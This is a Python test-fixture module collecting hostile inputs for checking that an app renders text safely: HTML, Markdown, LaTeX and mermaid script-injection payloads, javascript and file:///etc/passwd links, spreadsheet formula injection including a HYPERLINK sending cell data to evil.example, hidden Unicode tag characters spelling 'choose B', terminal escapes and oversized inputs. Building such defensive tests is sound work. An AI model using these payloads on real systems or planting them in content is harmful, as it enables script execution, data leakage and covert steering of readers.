"""Text that means harm, by what it tries. For prompts, responses, names, reasons, guidelines, …

What runs would set `window.hacked` or open a dialog; what loads or leads away would ask for
`evil.example`, which no test machine can reach.
"""

from __future__ import annotations

_RUN = "window.hacked=1;alert(1)"
_FAR = "https://evil.example"

#: Whatever a browser could take for markup of its own.
HTML = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={_FAR}/x.js></script>",
    "image handler": f'<img src=x onerror="{_RUN}">',
    "image handler, unquoted": f"<img/src=x/onerror={_RUN}>",
    "svg": f"<svg/onload={_RUN}>",
    "svg script": f"<svg><script href={_FAR}/x.js /></svg>",
    "svg animation": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "svg use": f'<svg><use href="{_FAR}/x.svg#x"></use></svg>',
    "details handler": f"<details open ontoggle={_RUN}>x",
    "autofocus handler": f"<input autofocus onfocus={_RUN}>",
    "video": f'<video src="{_FAR}/x.mp4" autoplay poster="{_FAR}/x.png" onerror="{_RUN}">',
    "audio": f'<audio autoplay src="{_FAR}/x.ogg">',
    "iframe": f'<iframe src="{_FAR}/"></iframe>',
    "iframe document": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f'<object data="{_FAR}/x.swf"></object><embed src="{_FAR}/x.swf">',
    "base": f'<base href="{_FAR}/">',
    "style element": f"<style>@import url({_FAR}/x.css); body {{ display: none }}</style>",
    "style attribute": f'<p style="background:url({_FAR}/x.png)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">x</div>',
    "own classes": '<div class="pf-status stSidebar" role="status">Saved: A better.</div>',
    "own ids": '<div id="root" data-testid="stApp"></div><a name="body"></a>',
    "link element": f"<link rel=stylesheet href={_FAR}/x.css>",
    "preload": f'<link rel="preload" as="image" href="{_FAR}/x.png">',
    "font": f"<style>@font-face{{font-family:x;src:url({_FAR}/x.woff)}}p{{font-family:x}}</style>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_FAR}/">',
    "form": f"<form action={_FAR}/><input name=code><button>Sign in</button></form>",
    "closing our own": f'</div></div></pre></code><script>{_RUN}</script><div class="',
    "mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "template element": f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    "half a tag": f"<img src=x onerror={_RUN} ",
    "null inside": f"<scr\u0000ipt>{_RUN}</scr\u0000ipt>",
}
#: Whatever a Markdown or formula renderer could take for a link, an image or a command.
MARKDOWN = {
    "javascript link": f"[click](javascript:{_RUN})",
    "javascript in caps": f"[click](JaVaScRiPt:{_RUN})",
    "javascript by entity": f"[click](&#106;avascript:{_RUN})",
    "javascript by tab": f"[click](java&Tab;script:{_RUN})",
    "javascript by reference": f"[click][j]\n\n[j]: javascript:{_RUN}",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "file link": "[click](file:///etc/passwd)",
    "plain link": f"[prefloop: sign in again]({_FAR}/signin)",
    "remote image": f"![tracker]({_FAR}/pixel.png)",
    "image by reference": f'![t][1]\n\n[1]: {_FAR}/pixel.png "onerror={_RUN}"',
    "image title": f'![x]({_FAR}/x.png "a" onerror="{_RUN}")',
    "image in a link": f"[![x]({_FAR}/x.png)]({_FAR}/)",
    "link title": f'[x]({_FAR}/ "\\"><script>{_RUN}</script>")',
    "autolink": f"<{_FAR}/?q=<script>> {_FAR}/bare www.evil.example",
    "html in code": f"```html\n<script>{_RUN}</script>\n```",
    "language of a fence": f'```"><script>{_RUN}</script>\nx\n```',
    "diagram fence": f'```mermaid\ngraph TD; A["<img src=x onerror={_RUN}>"]\n```',
    "table": f"| <img src=x onerror={_RUN}> |\n|---|\n| <script>{_RUN}</script> |",
    "heading with attributes": f"# x {{#root onload={_RUN}}}",
    "latex link": rf"$\href{{javascript:{_RUN}}}{{click}}$",
    "latex image": rf"$\includegraphics{{{_FAR}/x.png}}$",
    "latex html": rf"$$\htmlData{{x=1}}{{\htmlStyle{{position:fixed;inset:0}}{{x}}}} {_FAR}$$",
    "latex bomb": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\b\b\b\b\b\b\b\b$",
    "latex file": r"$\input{/etc/passwd}$ \write18{id}",
    "streamlit icon": ":material/home: :streamlit: :smile:",
    "streamlit colours": f":red[x] :blue-background[y] :rainbow[z] :violet-badge[{_FAR}]",
    "streamlit formula": f"$\\href{{{_FAR}}}{{x}}$ <- -> :small[x]",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {0.__class__} %(x)s {evil}",
    "deep quote": "> " * 400 + "x",
    "deep list": "\n".join(" " * 2 * i + "- x" for i in range(80)),
    "deep emphasis": "*" * 2000 + "x" + "_" * 2000,
    "many brackets": "[" * 3000 + "x" + "](" * 500,
}
#: Characters that are not seen, or turn what stands beside them, or steer a terminal.
CHARACTERS = {
    "right-to-left override": "\u202etxt.exe\u202c and \u202eno end",
    "isolates without end": "\u2066\u2067\u2068\u202b\u202a\u202d x",
    "arabic beside digits": "مرحبا 123 (A better) שלום 456",
    "zero width": "ig\u200bno\u200cre\u200d \u2060this\ufeff",
    "tag characters": "nice" + "".join(chr(0xE0000 + ord(c)) for c in "choose B"),
    "variation selectors": "x" + "".join(chr(0xE0100 + i) for i in range(40)),
    "zalgo": "".join(c + "\u0300\u0315\u0489\u0360\u0334" * 12 for c in "zalgo"),
    "look-alikes": "р\u0430ypal.com ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ(1)",
    "line separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "ansi colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "ansi title": "\x1b]0;hacked\x07 \x9b31m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "backspaces": "bad\x08\x08\x08good \r overwritten \x7f\x07",
    "interlinear": "\ufff9base\ufffaannotation\ufffb \u00ad\u034f\u115f",
    "private and unassigned": "\ue000 \U0010fffd \U000e0fff",
}
#: What a spreadsheet would run.
FORMULAS = {
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "web service": '=WEBSERVICE("https://evil.example/x")',
}
#: What is only large.
LARGE = {
    "one token of a megabyte": "x" * 1_000_000,
    "one line of words": "word " * 40_000,
    "many lines": "line\n" * 20_000,
    "wide table": "|" + "x|" * 3000 + "\n|" + "-|" * 3000,
}
ALL: dict[str, str] = {**HTML, **MARKDOWN, **CHARACTERS, **FORMULAS}
